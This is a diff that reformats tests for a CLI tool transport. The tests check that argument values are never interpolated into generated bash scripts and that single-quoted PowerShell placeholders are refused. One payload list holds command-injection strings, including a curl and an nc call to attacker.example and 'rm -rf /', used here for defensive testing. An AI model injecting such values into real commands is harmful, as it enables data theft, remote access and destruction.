@@ -33,7 +33,17 @@ describe('bash script layout', () => {
   });
 
   it('never contains argument values, only references', () => {
-    const payloads = ['data.csv; curl http://attacker.example', 'data.csv && rm -rf /', 'data.csv | nc attacker.example 9999', 'data.csv `id`', 'data.csv $(id)', 'data.csv"; echo pwned; "', 'value with spaces', "value'with'quote", '"; rm -rf /; "'];
+    const payloads = [
+      'data.csv; curl http://attacker.example',
+      'data.csv && rm -rf /',
+      'data.csv | nc attacker.example 9999',
+      'data.csv `id`',
+      'data.csv $(id)',
+      'data.csv"; echo pwned; "',
+      'value with spaces',
+      "value'with'quote",
+      '"; rm -rf /; "',
+    ];
     const command = `tool UTCP_ARG_a_UTCP_END "UTCP_ARG_a_UTCP_END" 'UTCP_ARG_a_UTCP_END'`;
     const script = buildBashScript([rewritePlaceholders(command, 'bash', N).text], N);
     for (const p of payloads) expect(script).not.toContain(p);
@@ -79,17 +89,45 @@ describe('PowerShell script layout', () => {
 describe('PowerShell selection on win32', () => {
   it('refuses a single-quoted placeholder before starting anything', async () => {
     const transport = new CliTransport(createTestContext(), { platform: 'win32' });
-    const tool = { name: 'demo.t', description: '', inputs: {}, outputs: {}, tags: [], tool_call_template: { call_template_type: 'cli' } };
+    const tool = {
+      name: 'demo.t',
+      description: '',
+      inputs: {},
+      outputs: {},
+      tags: [],
+      tool_call_template: { call_template_type: 'cli' },
+    };
     const options = { signal: new AbortController().signal, manualName: 'demo', rawTemplate: tool.tool_call_template };
-    await expect(transport.callTool(tool, { a: 'x' }, cliTemplate("Write-Output 'UTCP_ARG_a_UTCP_END'"), options)).rejects.toThrow(/single-quoted/);
+    await expect(
+      transport.callTool(tool, { a: 'x' }, cliTemplate("Write-Output 'UTCP_ARG_a_UTCP_END'"), options),
+    ).rejects.toThrow(/single-quoted/);
     await transport.close();
   });
 
-  it.skipIf(process.platform === 'win32')('starts powershell.exe (absent here, so the start fails with a clear error)', async () => {
-    const transport = new CliTransport(createTestContext(), { platform: 'win32', hostEnv: { PATH: process.env.PATH } });
-    const tool = { name: 'demo.t', description: '', inputs: {}, outputs: {}, tags: [], tool_call_template: { call_template_type: 'cli' } };
-    const options = { signal: new AbortController().signal, manualName: 'demo', rawTemplate: tool.tool_call_template };
-    await expect(transport.callTool(tool, { a: 'x' }, cliTemplate('Write-Output UTCP_ARG_a_UTCP_END'), options)).rejects.toThrow(/cannot start powershell\.exe/);
-    await transport.close();
-  });
+  it.skipIf(process.platform === 'win32')(
+    'starts powershell.exe (absent here, so the start fails with a clear error)',
+    async () => {
+      const transport = new CliTransport(createTestContext(), {
+        platform: 'win32',
+        hostEnv: { PATH: process.env.PATH },
+      });
+      const tool = {
+        name: 'demo.t',
+        description: '',
+        inputs: {},
+        outputs: {},
+        tags: [],
+        tool_call_template: { call_template_type: 'cli' },
+      };
+      const options = {
+        signal: new AbortController().signal,
+        manualName: 'demo',
+        rawTemplate: tool.tool_call_template,
+      };
+      await expect(
+        transport.callTool(tool, { a: 'x' }, cliTemplate('Write-Output UTCP_ARG_a_UTCP_END'), options),
+      ).rejects.toThrow(/cannot start powershell\.exe/);
+      await transport.close();
+    },
+  );
 });
